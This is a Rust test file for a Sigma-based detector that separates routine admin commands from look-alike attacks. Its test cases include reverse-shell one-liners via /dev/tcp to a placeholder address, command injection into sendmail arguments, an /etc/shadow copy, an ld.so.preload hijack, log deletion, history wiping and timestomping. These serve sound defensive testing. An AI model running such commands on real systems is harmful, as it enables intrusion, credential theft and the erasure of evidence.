//! The packaged rules beside the work of every day, and beside what looks like it.

use super::*;
use crate::sigma::RawEvent;

/// An exec by a parent with this path and command line.
fn by(parent: (&str, &str), args: &[&str]) -> Fact {
    let program = args[0].rsplit('/').next().unwrap();
    let Fact::ProcessEvent(mut event) = exec(&format!("/usr/bin/{program}"), args) else {
        panic!("an exec is a process event");
    };
    event.parent_exe = Some(parent.0.into());
    event.parent_command_line = Some(parent.1.into());
    Fact::ProcessEvent(event)
}

const SH: (&str, &str) = ("/usr/bin/dash", "/bin/sh -c x");
const CRON: (&str, &str) = ("/usr/bin/dash", "/bin/sh /etc/cron.daily/passwd");
const PHP: (&str, &str) = ("/usr/sbin/php-fpm8.2", "php-fpm: pool www");
const APACHE: (&str, &str) = ("/usr/sbin/apache2", "/usr/sbin/apache2 -k start");
const RPM: (&str, &str) = ("/usr/bin/bash", "/bin/sh /var/tmp/rpm-tmp.aB3dEf 1");

#[test]
fn benign_work_is_low_at_most() {
    let mut sigma = Sigma::load(&[shipped()]);
    let cases: &[((&str, &str), &[&str])] = &[
        (CRON, &["cp", "-p", "/etc/shadow", "shadow.bak"]),
        (CRON, &["cp", "-p", "/etc/gshadow", "gshadow.bak"]),
        (CRON, &["cmp", "-s", "shadow.bak", "/etc/shadow"]),
        (PHP, &["sh", "-c", "/usr/sbin/sendmail -t -i "]),
        (
            PHP,
            &["sh", "-c", "--", "/usr/sbin/sendmail -t -i -f www@example.com"],
        ),
        (
            APACHE,
            &[
                "/bin/sh",
                "-c",
                "/usr/bin/rotatelogs /var/log/apache2/access.%Y-%m-%d 86400",
            ],
        ),
        (SH, &["bash", "-c", "(echo > /dev/tcp/db/5432) >/dev/null 2>&1"]),
        (SH, &["docker", "exec", "db", "bash", "-c", "</dev/tcp/db/5432"]),
        (SH, &["cat", "/etc/ld.so.preload"]),
        (SH, &["ls", "-l", "/etc/ld.so.preload"]),
        (SH, &["rm", "-f", "/var/log/syslog.7.gz"]),
        (SH, &["rm", "-f", "/var/log/auth.log-20260101.xz"]),
        (
            SH,
            &["rsync", "-a", "--exclude=.bash_history", "/home/farm/", "/srv/"],
        ),
        (
            SH,
            &[
                "tar",
                "czf",
                "/srv/confirm .tgz",
                "--exclude",
                ".bash_history",
                "/home",
            ],
        ),
        (SH, &["tmux", "clear-history", "-c"]),
        (RPM, &["touch", "-r", "/etc/os-release", "/usr/share/x"]),
        (
            ("/usr/bin/dpkg", "dpkg --configure -a"),
            &["touch", "-d", "@0", "/usr/share/x"],
        ),
        (
            ("/usr/bin/make", "make install"),
            &["touch", "-r", "x", "/usr/lib/x"],
        ),
        (
            SH,
            &[
                "ssh",
                "-l",
                "backup",
                "host",
                "rsync --server -vlogDtprze.iLsfxC . /srv",
            ],
        ),
        (SH, &["journalctl", "--vacuum-time=7d"]),
        (SH, &["useradd", "--system", "--uid", "107", "messagebus"]),
        (SH, &["gcc", "-c", "-o", "/tmp/build/.deps/x.o", "x.c"]),
        (SH, &["chattr", "+C", "/var/log/journal"]),
    ];
    for (parent, args) in cases {
        let graver: Vec<_> = sigma
            .observe(&by(*parent, args))
            .into_iter()
            .filter(|notice| notice.severity > Severity::Low)
            .map(|notice| notice.title)
            .collect();
        assert_eq!(graver, Vec::<String>::new(), "{args:?}");
    }
}

#[test]
fn what_looks_like_benign_work_is_found() {
    let mut sigma = Sigma::load(&[shipped()]);
    let cases: &[((&str, &str), &[&str], &str)] = &[
        (
            SH,
            &["cp", "-p", "/etc/shadow", "shadow.bak"],
            "Password Hashes Read With a Text Tool",
        ),
        (
            CRON,
            &["cp", "/etc/shadow", "/tmp/x"],
            "Password Hashes Read With a Text Tool",
        ),
        (
            PHP,
            &["sh", "-c", "/usr/sbin/sendmail -t -i; id"],
            "Web Server Starts a Shell",
        ),
        (
            PHP,
            &["sh", "-c", "/usr/sbin/sendmail -t -i -X/var/www/html/x.php"],
            "Web Server Starts a Shell",
        ),
        (APACHE, &["/bin/sh", "-c", "id"], "Web Server Starts a Shell"),
        (
            SH,
            &["bash", "-c", "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5"],
            "Shell Connected to a Network Device File",
        ),
        (
            SH,
            &[
                "bash",
                "-c",
                "0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196",
            ],
            "Shell Connected to a Network Device File",
        ),
        (
            SH,
            &["bash", "-c", "exec /bin/sh 0</dev/tcp/192.0.2.1/443 1>&0 2>&0"],
            "Shell Connected to a Network Device File",
        ),
        (
            SH,
            &["bash", "-c", "sh >& /dev/udp/192.0.2.1/443"],
            "Shell Connected to a Network Device File",
        ),
        (
            SH,
            &["sh", "-c", "echo /tmp/x.so > /etc/ld.so.preload"],
            "Preload File Named on a Command Line",
        ),
        (
            SH,
            &["rm", "-f", "/var/log/auth.log", "/var/log/auth.log.1"],
            "System Log Removed or Emptied",
        ),
        (
            SH,
            &["rm", "-f", "/var/log/wtmp*"],
            "System Log Removed or Emptied",
        ),
        (
            SH,
            &["rm", "-rf", "/var/log/journal/"],
            "System Log Removed or Emptied",
        ),
        (SH, &["bash", "-c", "history -cw"], "Shell History Removed"),
        (
            SH,
            &["sh", "-c", "cd /root;rm -f .bash_history"],
            "Shell History Removed",
        ),
        (
            SH,
            &["touch", "-r", "/bin/ls", "/usr/bin/x"],
            "Time of a System File Set by Hand",
        ),
    ];
    for (parent, args, title) in cases {
        let found = titles(&mut sigma, &by(*parent, args));
        assert!(
            found.iter().any(|found| found == title),
            "{args:?} gave {found:?}, not {title:?}"
        );
    }
}

#[test]
fn shell_that_opens_a_connection_is_found_by_its_path() {
    let mut sigma = Sigma::load(&[shipped()]);
    let mut found = |image: &str, address: &str| {
        let fields = [
            ("Image", image),
            ("Initiated", "true"),
            ("DestinationIp", address),
        ];
        let connection = RawEvent {
            product: Some("linux".into()),
            category: Some("network_connection".into()),
            fields: fields
                .iter()
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect(),
            ..RawEvent::default()
        };
        let notices = sigma.observe_raw(&connection);
        notices.into_iter().map(|notice| notice.title).collect::<Vec<_>>()
    };
    for image in ["/usr/bin/bash", "/bin/sh", "bash"] {
        assert_eq!(found(image, "192.0.2.1"), ["Shell Opens a Connection"], "{image}");
        assert_eq!(found(image, "127.0.0.1"), Vec::<String>::new(), "{image}");
    }
    for image in ["/usr/bin/ssh", "/usr/bin/rsync", "/usr/lib/apt/methods/https"] {
        assert_eq!(found(image, "192.0.2.1"), Vec::<String>::new(), "{image}");
    }
}
